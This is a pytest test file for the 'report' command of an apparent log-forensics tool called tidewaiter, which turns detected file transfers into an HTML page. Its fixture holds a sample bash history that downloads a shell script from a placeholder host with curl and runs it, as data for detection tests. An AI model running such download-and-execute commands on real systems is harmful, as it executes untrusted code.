"""`tidewaiter report`: the page appears only when it is complete, and says what was left out of it."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from policy_writer import entry
from tidewaiter.cli.commands.report import narrowed
from tidewaiter.cli.exit_codes import ExitCode
from tidewaiter.cli.main import run
from tidewaiter.pipeline.config import ScanOptions

HISTORY = "#1772366400\ncurl -o /tmp/tally.sh http://files.example.com/tally.sh\n#1772366460\nsh /tmp/tally.sh\n"


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    folder = tmp_path / "evidence"
    folder.mkdir()
    (folder / ".bash_history").write_text(HISTORY)
    return folder


def test_the_page_is_written_and_named(evidence: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "page.html"

    assert run(["report", str(evidence), "-o", str(target), "--jobs", "1"]) == ExitCode.OK
    page = target.read_text(encoding="utf-8")
    said = capsys.readouterr()
    assert page.startswith("<!doctype html>")
    assert page.rstrip().endswith("</html>")
    assert "http://files.example.com/tally.sh" in page
    assert said.out == ""
    assert f"Report: {target}" in said.err
    assert [path.name for path in tmp_path.iterdir() if path.is_file()] == ["page.html"]


def test_the_page_goes_to_standard_output_where_asked(evidence: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["report", str(evidence), "-o", "-", "--jobs", "1", "--min-severity", "critical"]) == ExitCode.OK
    said = capsys.readouterr()

    assert said.out.startswith("<!doctype html>")
    assert "Only critical severity and higher." in said.out
    assert "No transfer was found" in said.out
    assert "Report:" not in said.err


def test_nothing_readable_leaves_no_page(tmp_path: Path) -> None:
    (tmp_path / "empty.log").write_text("")

    assert run(["report", str(tmp_path / "empty.log"), "-o", str(tmp_path / "page.html")]) == ExitCode.NOTHING_READABLE
    assert not (tmp_path / "page.html").exists()


def test_a_store_is_reported_without_its_logs(evidence: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store, target = tmp_path / "kept.db", tmp_path / "page.html"
    assert run(["scan", str(evidence), "--store", str(store), "--format", "jsonl", "--jobs", "1"]) == ExitCode.OK
    (transfer,) = capsys.readouterr().out.splitlines()
    (evidence / ".bash_history").unlink()

    assert run(["report", "--store", str(store), "-o", str(target)]) == ExitCode.OK
    page, said = target.read_text(encoding="utf-8"), capsys.readouterr().err
    assert "http://files.example.com/tally.sh" in page
    assert json.loads(transfer)["id"] in page
    assert ".bash_history" in page, "the account of what was read is kept too"
    assert f"1 transfer in {store}" in said
    assert run(["report", "--store", str(store), "-o", "-", "--since", "2026-03-02"]) == ExitCode.OK
    later = capsys.readouterr().out
    assert "No transfer was found" in later
    assert "Only since 2026-03-02T00:00:00Z." in later


def test_a_policy_weighs_in_on_what_a_store_holds(evidence: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store, policy = tmp_path / "kept.db", tmp_path / "policy.toml"
    policy.write_text(entry("known_bad", "tally", values=["files.example.com"]))
    assert run(["scan", str(evidence), "--store", str(store), "--jobs", "1"]) == ExitCode.OK
    capsys.readouterr()

    assert run(["report", "--store", str(store), "-o", "-", "--policy", str(policy)]) == ExitCode.OK
    assert "because" in capsys.readouterr().out


@pytest.mark.parametrize(
    "arguments",
    [[], ["{evidence}", "--store", "{store}"], ["--store", "{store}", "--confine"], ["--store", "{store}", "--jobs", "2"]],
    ids=["neither", "both", "confined", "jobs"],
)
def test_what_goes_together_is_checked(evidence: Path, tmp_path: Path, arguments: list[str]) -> None:
    spelled = [one.format(evidence=evidence, store=tmp_path / "kept.db") for one in arguments]

    assert run(["report", *spelled, "-o", str(tmp_path / "page.html")]) == ExitCode.USAGE
    assert not (tmp_path / "page.html").exists()


def test_a_store_that_is_not_there_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["report", "--store", str(tmp_path / "none.db"), "-o", str(tmp_path / "page.html")]) == ExitCode.USAGE
    assert "none.db" in capsys.readouterr().err
    assert not (tmp_path / "page.html").exists()


def test_what_is_left_out_is_said_in_words() -> None:
    assert narrowed(ScanOptions()) is None
    assert narrowed(
        ScanOptions(min_severity="low", hosts=("a", "b"), since=1_772_366_400_000_000, until=1_772_366_401_000_000)
    ) == ("low severity and higher, on a, b, since 2026-03-01T12:00:00Z, until 2026-03-01T12:00:01Z")


def test_help_loads_no_template_engine() -> None:
    probe = "import sys; from tidewaiter.cli.main import run; run(['report', '--help']); assert 'jinja2' not in sys.modules"

    subprocess.run([sys.executable, "-c", probe], check=True, capture_output=True, timeout=60)
